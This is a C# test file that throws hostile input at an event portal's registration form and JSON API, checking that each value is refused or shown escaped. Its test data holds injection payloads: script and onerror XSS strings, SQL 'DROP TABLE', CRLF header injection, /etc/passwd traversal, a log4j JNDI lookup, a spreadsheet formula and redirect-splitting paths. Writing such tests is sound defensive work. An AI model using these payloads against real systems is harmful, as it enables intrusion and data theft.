using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using EventPortal.Tests.Infrastructure;

namespace EventPortal.Tests.Registrations;

/// <summary>
/// Hostile and malformed input against the registration form and the JSON API. Each case
/// states what must happen: stored (and then shown escaped on the personal page), refused
/// with a message on a named field, or refused with a given status. None may get a 5xx.
/// </summary>
public sealed class HostileInput : IAsyncLifetime
{
    PortalApp _app = null!;
    string _slug = "";

    public async Task InitializeAsync()
    {
        _app = await PortalApp.StartSqliteAsync();
        _slug = await _app.CreateEventAsync(liveSeats: 1000);
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    /// <summary>Stored: the registration goes through. Field: refused, naming that field.</summary>
    /// <param name="FormStatus">Where the form is refused before our validator sees it (ASP.NET's form reader refuses %00 with 400).</param>
    public sealed record Case(string Name, string Field, object? Value, string? RejectedField, string? Confirmation = null, HttpStatusCode? FormStatus = null)
    {
        public override string ToString() => Name;
    }

    static readonly string TenKb = new('長', 10 * 1024);

    public static TheoryData<Case> FieldCases() => new()
    {
        new("script tag in family name", "familyName", "<script>alert(1)</script>", null),
        new("img onerror in given name", "givenName", "<img src=x onerror=alert(1)>", null),
        new("attribute breakout in organisation", "organization", "\"><svg onload=alert(1)>", null),
        new("SQL drop table in family name", "familyName", "Robert'); DROP TABLE registrations;--", null),
        new("SQL tautology in organisation", "organization", "' OR '1'='1", null),
        new("header injection in family name", "familyName", "山田\r\nBcc: victim@example.com", "familyName"),
        new("header injection in e-mail", "email", "a@example.com\r\nBcc: x@example.com", "email"),
        new("e-mail without at", "email", "not-an-email", "email"),
        new("e-mail without dot in domain", "email", "a@b", "email"),
        new("e-mail without local part", "email", "@example.com", "email"),
        new("e-mail with a space", "email", "a b@example.com", "email"),
        new("e-mail in angle brackets", "email", "<a@example.com>", "email"),
        new("two e-mails", "email", "a@example.com, b@example.com", "email"),
        new("e-mail with two at signs", "email", "a@b@example.com", "email"),
        new("full-width e-mail normalises", "email", "ｚｅｎｋａｋｕ＠ｅｘａｍｐｌｅ．ｊｐ", null),
        new("carrier address with trailing dot", "email", "carrier.@docomo.ne.jp", null),
        new("carrier address with double dot", "email", "car..rier@ezweb.ne.jp", null),
        new("mismatched confirmation", "email", "mismatch@example.jp", "emailConfirmation", Confirmation: "other@example.jp"),
        new("consent refused", "consent", false, "consent"),
        new("consent missing", "consent", null, "consent"),
        new("unknown ticket", "ticketType", "vip", "ticketType"),
        new("empty ticket", "ticketType", "", "ticketType"),
        new("unknown category", "category", "hacker", "category"),
        new("empty family name", "familyName", "", "familyName"),
        new("blank family name", "familyName", " \u3000 ", "familyName"),
        new("10 kB family name", "familyName", TenKb, "familyName"),
        new("10 kB questions", "questions", TenKb, "questions"),
        new("control character in name", "familyName", "山\u0001田", "familyName"),
        new("NUL in organisation", "organization", "市役所\u0000", "organization", FormStatus: HttpStatusCode.BadRequest),
        new("bidi override in name", "familyName", "\u202Egnp.exe", "familyName"),
        new("bidi isolate in organisation", "organization", "A\u2067B", "organization"),
        new("emoji in name", "givenName", "🎉花子", null),
        new("ZWJ family emoji", "givenName", "👨‍👩‍👧", null),
        new("latin reading", "reading", "yamada", "reading"),
        new("half-width katakana reading", "reading", "ﾔﾏﾀﾞ ﾊﾅｺ", null),
        new("hiragana reading", "reading", "やまだ はなこ", null),
        new("path traversal in organisation", "organization", "../../../../etc/passwd", null),
        new("template syntax in name", "familyName", "{{7*7}}${7*7}", null),
        new("log4j lookup in organisation", "organization", "${jndi:ldap://x.example/a}", null),
        new("multi-line accessibility request", "accessibility", "字幕を希望します\n資料の事前送付\tも", null),
        new("formula in family name", "familyName", "=HYPERLINK(\"http://x.example\")", null),
        new("full-width latin name", "familyName", "ＹＡＭＡＤＡ", null),
        new("confusable Cyrillic in name", "familyName", "Раураl", null),
        new("script in questions", "questions", "</textarea><script>alert(1)</script>", null),
        // Found by the generated hostile-input test (Proof/GeneratedHostileInput.cs): Unicode
        // normalisation throws on noncharacters such as U+FFFE, which answered 500.
        new("noncharacter in family name", "familyName", "山田\uFFFE", "familyName"),
        new("noncharacter in questions", "questions", "\uFFFF\uFFFE", "questions"),
        new("noncharacter in e-mail", "email", "a\uFFFE@example.jp", "email"),
        new("noncharacter in reading", "reading", "ヤマダ\uFFFE", "reading"),
    };

    [Theory]
    [MemberData(nameof(FieldCases))]
    public async Task Api_field(Case c)
    {
        using var client = _app.Client();
        var email = $"api-{Guid.NewGuid():N}@example.jp";
        var body = new JsonObject
        {
            ["familyName"] = "山田", ["givenName"] = "花子", ["email"] = email, ["organization"] = "市役所",
            ["ticketType"] = "live", ["consent"] = true,
        };
        body[c.Field] = c.Value switch { null => null, bool b => b, string s => s, _ => throw new ArgumentException(c.Name) };
        if (c.Value is null) body.Remove(c.Field);
        if (c.Confirmation is not null) body["emailConfirmation"] = c.Confirmation;

        var response = await client.PostAsync($"/api/events/{_slug}/registrations", new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json"));

        if (c.RejectedField is null)
        {
            Assert.Equal(HttpStatusCode.Created, response.StatusCode);
            var manage = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("manageUrl").GetString()!;
            await AssertRenderedSafelyAsync(new Uri(manage).AbsolutePath, c);
        }
        else
        {
            Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
            var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
            Assert.True(problem.GetProperty("errors").TryGetProperty(c.RejectedField, out var messages), $"{c.Name}: no error for {c.RejectedField}");
            Assert.False(string.IsNullOrWhiteSpace(messages[0].GetString()));
            await AssertNothingStoredAsync();
        }
    }

    [Theory]
    [MemberData(nameof(FieldCases))]
    public async Task Form_field(Case c)
    {
        using var browser = _app.Browser();
        var email = $"form-{Guid.NewGuid():N}@example.jp";
        var fields = Journeys.ValidForm(email);
        if (c.Value is null) fields.Remove(c.Field);
        else fields[c.Field] = c.Value is bool b ? (b ? "yes" : "no") : (string)c.Value;
        if (c.Field == "email") fields["emailConfirmation"] = c.Confirmation ?? (string)c.Value!;

        var response = await browser.FormRegisterAsync(_slug, fields);

        if (c.FormStatus is { } status)
        {
            Assert.Equal(status, response.StatusCode);
            Assert.Contains("<h1>", await response.Content.ReadAsStringAsync());
            await AssertNothingStoredAsync();
        }
        else if (c.RejectedField is null)
        {
            Assert.Equal(HttpStatusCode.SeeOther, response.StatusCode);
            await AssertRenderedSafelyAsync(response.Headers.Location!.OriginalString, c);
        }
        else
        {
            Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
            var html = await response.Content.ReadAsStringAsync();
            Assert.Contains("class=\"error-summary\"", html);
            Assert.Contains($"href=\"#f-{c.RejectedField}\"", html);
            Assert.Contains($"id=\"e-{c.RejectedField}\"", html);
            if (c.Value is string typed && HtmlSafety.Reflection(html, typed) is { } problem)
                Assert.Fail($"{c.Name}: {problem}");
            await AssertNothingStoredAsync();
        }
    }

    public static TheoryData<string, string, string, HttpStatusCode> RawApiCases() => new()
    {
        { "number for a string", "application/json", """{"familyName":123,"givenName":"花子","email":"n@example.jp","organization":"x","ticketType":"live","consent":true}""", HttpStatusCode.UnprocessableEntity },
        { "string for consent", "application/json", """{"familyName":"山田","givenName":"花子","email":"s@example.jp","organization":"x","ticketType":"live","consent":"yes"}""", HttpStatusCode.UnprocessableEntity },
        { "array for a name", "application/json", """{"familyName":["a"],"givenName":"花子","email":"a@example.jp","organization":"x","ticketType":"live","consent":true}""", HttpStatusCode.UnprocessableEntity },
        { "answers not an object", "application/json", """{"familyName":"山田","givenName":"花子","email":"o@example.jp","organization":"x","ticketType":"live","consent":true,"answers":"x"}""", HttpStatusCode.UnprocessableEntity },
        { "answers with nested object", "application/json", """{"familyName":"山田","givenName":"花子","email":"o2@example.jp","organization":"x","ticketType":"live","consent":true,"answers":{"q":{"a":1}}}""", HttpStatusCode.UnprocessableEntity },
        { "lone surrogate escape", "application/json", """{"familyName":"\ud800","givenName":"花子","email":"u@example.jp","organization":"x","ticketType":"live","consent":true}""", HttpStatusCode.UnprocessableEntity },
        { "malformed JSON", "application/json", """{"familyName": "山田", """, HttpStatusCode.BadRequest },
        { "JSON array", "application/json", "[]", HttpStatusCode.BadRequest },
        { "JSON null", "application/json", "null", HttpStatusCode.BadRequest },
        { "empty body", "application/json", "", HttpStatusCode.BadRequest },
        { "deep nesting", "application/json", new string('[', 200) + new string(']', 200), HttpStatusCode.BadRequest },
        { "text/plain", "text/plain", """{"familyName":"山田"}""", HttpStatusCode.UnsupportedMediaType },
        { "form body to the API", "application/x-www-form-urlencoded", "familyName=x", HttpStatusCode.UnsupportedMediaType },
        { "empty object", "application/json", "{}", HttpStatusCode.UnprocessableEntity },
    };

    [Theory]
    [MemberData(nameof(RawApiCases))]
    public async Task Api_body(string name, string contentType, string body, HttpStatusCode expected)
    {
        using var client = _app.Client();
        var content = new StringContent(body, Encoding.UTF8);
        content.Headers.ContentType = new(contentType);

        var response = await client.PostAsync($"/api/events/{_slug}/registrations", content);

        Assert.True(expected == response.StatusCode, $"{name}: expected {expected}, got {response.StatusCode}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task Api_body_of_2_MB_is_413()
    {
        using var client = _app.Client();
        var huge = "{\"familyName\":\"" + new string('a', 2 * 1024 * 1024) + "\"}";
        var response = await client.PostAsync($"/api/events/{_slug}/registrations", new StringContent(huge, Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
    }

    [Fact]
    public async Task Api_body_with_invalid_UTF8_names_the_field()
    {
        using var client = _app.Client();
        var bytes = Encoding.UTF8.GetBytes("{\"familyName\":\"").Concat(new byte[] { 0xC3, 0x28, 0xFF }).Concat(Encoding.UTF8.GetBytes("\"}")).ToArray();
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new("application/json");
        var response = await client.PostAsync($"/api/events/{_slug}/registrations", content);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.True((await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").TryGetProperty("familyName", out _));
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task Api_registration_for_an_unknown_event_is_404_problem()
    {
        using var client = _app.Client();
        var response = await client.RegisterAsync("no-such-event", "x@example.jp");
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task Form_without_antiforgery_token_is_400_and_stores_nothing()
    {
        using var browser = _app.Browser();
        var response = await browser.PostAsync($"/events/{_slug}/register", new FormUrlEncodedContent(Journeys.ValidForm("csrf@example.jp")));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task Form_body_of_2_MB_is_refused_with_4xx()
    {
        using var browser = _app.Browser();
        var fields = Journeys.ValidForm("big@example.jp");
        fields["questions"] = new string('a', 2 * 1024 * 1024);
        var response = await browser.FormRegisterAsync(_slug, fields);
        Assert.InRange((int)response.StatusCode, 400, 499);
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task Form_with_a_100_kB_name_gets_a_message_on_that_field()
    {
        using var browser = _app.Browser();
        var fields = Journeys.ValidForm("long@example.jp");
        fields["familyName"] = new string('a', 100 * 1024);
        var response = await browser.FormRegisterAsync(_slug, fields);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Contains("id=\"e-familyName\"", await response.Content.ReadAsStringAsync());
        await AssertNothingStoredAsync();
    }

    [Fact]
    public async Task Form_post_for_an_unknown_event_is_404()
    {
        using var browser = _app.Browser();
        var response = await browser.SubmitAsync($"/events/{_slug}", "/events/no-such-event/register", Journeys.ValidForm("nf@example.jp"));
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    // Found by the generated hostile-input test (Proof/GeneratedHostileInput.cs); each answered 500.

    [Fact]
    public async Task Resend_with_a_noncharacter_in_the_address_is_422()
    {
        using var browser = _app.Browser();
        var response = await browser.SubmitAsync($"/events/{_slug}/resend", $"/events/{_slug}/resend", new Dictionary<string, string> { ["email"] = "a\uFFFE@example.jp" });
        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
    }

    [Theory]
    [InlineData("/events/%20")]
    [InlineData("/events/%E3%80%80")]
    [InlineData("/events/%20/resend")]
    public async Task A_blank_slug_is_404(string path)
    {
        using var client = _app.Client();
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync(path)).StatusCode);
    }

    [Fact]
    public async Task Posts_that_no_page_handler_takes_are_4xx()
    {
        using var browser = _app.Browser();
        var personal = await browser.RegisteredAsync(_slug, "handler@example.jp");
        _stored++;
        foreach (var (page, action) in new[]
        {
            ($"/events/{_slug}", $"/events/{_slug}"), ($"/events/{_slug}", $"/events/{_slug}/nothing"),
            (personal, personal), (personal, $"{personal}/nothing"), (personal, "/j/AAAAAAAAAAAAAAAAAAAAAAAA"),
        })
        {
            var response = await browser.SubmitAsync(page, action, Journeys.ValidForm("nobody@example.jp"));
            Assert.True((int)response.StatusCode is >= 400 and < 500, $"POST {action}: {(int)response.StatusCode}");
        }
        await AssertNothingStoredAsync();
    }

    [Theory]
    [InlineData("a[b")]
    [InlineData("[")]
    [InlineData("\u0001\u001b[31m")]
    public async Task A_form_field_name_with_an_unclosed_bracket_is_ignored(string name)
    {
        using var browser = _app.Browser();
        var fields = Journeys.ValidForm("bracket-" + Guid.NewGuid().ToString("N")[..8] + "@example.jp");
        fields[name] = "x";
        var response = await browser.FormRegisterAsync(_slug, fields);
        Assert.Equal(HttpStatusCode.SeeOther, response.StatusCode);
        _stored++;
        var resend = await browser.SubmitAsync($"/events/{_slug}/resend", $"/events/{_slug}/resend", new Dictionary<string, string> { ["email"] = "x@example.jp", [name] = "x" });
        Assert.Equal(HttpStatusCode.SeeOther, resend.StatusCode);
    }

    [Theory]
    [InlineData("/etc/passwd%00.png", "/")]
    [InlineData("/a%0D%0ASet-Cookie:%20x=1", "/")]
    [InlineData("/%E3%82%A4%E3%83%99%E3%83%B3%E3%83%88?q=%E5%B1%B1%E7%94%B0", "/%E3%82%A4%E3%83%99%E3%83%B3%E3%83%88?q=%E5%B1%B1%E7%94%B0")]
    public async Task The_language_switch_redirects_only_to_a_clean_local_path(string returnUrl, string location)
    {
        using var client = _app.Client();
        var response = await client.GetAsync($"/culture/en?returnUrl={returnUrl}");
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal(location, response.Headers.Location!.OriginalString);
    }

    int _stored;

    async Task AssertNothingStoredAsync() =>
        Assert.Equal(_stored, await _app.QueryOneAsync<int>("SELECT COUNT(*) FROM registrations"));

    /// <summary>The personal page shows what was stored, and markup only ever as text.</summary>
    async Task AssertRenderedSafelyAsync(string managePath, Case c)
    {
        _stored++;
        using var client = _app.Client();
        var html = await client.GetStringAsync(managePath);
        if (c.Value is string typed && HtmlSafety.Reflection(html, typed) is { } problem)
            Assert.Fail($"{c.Name}: {problem}");
        if (c.Field is "familyName" or "givenName" && c.Value is string shown && !shown.Contains('<') && !shown.Contains('"') && !shown.Contains('\''))
            Assert.Contains(System.Text.Encodings.Web.HtmlEncoder.Create(System.Text.Unicode.UnicodeRanges.All).Encode(shown.Normalize(NormalizationForm.FormC).Trim()), html);
    }
}
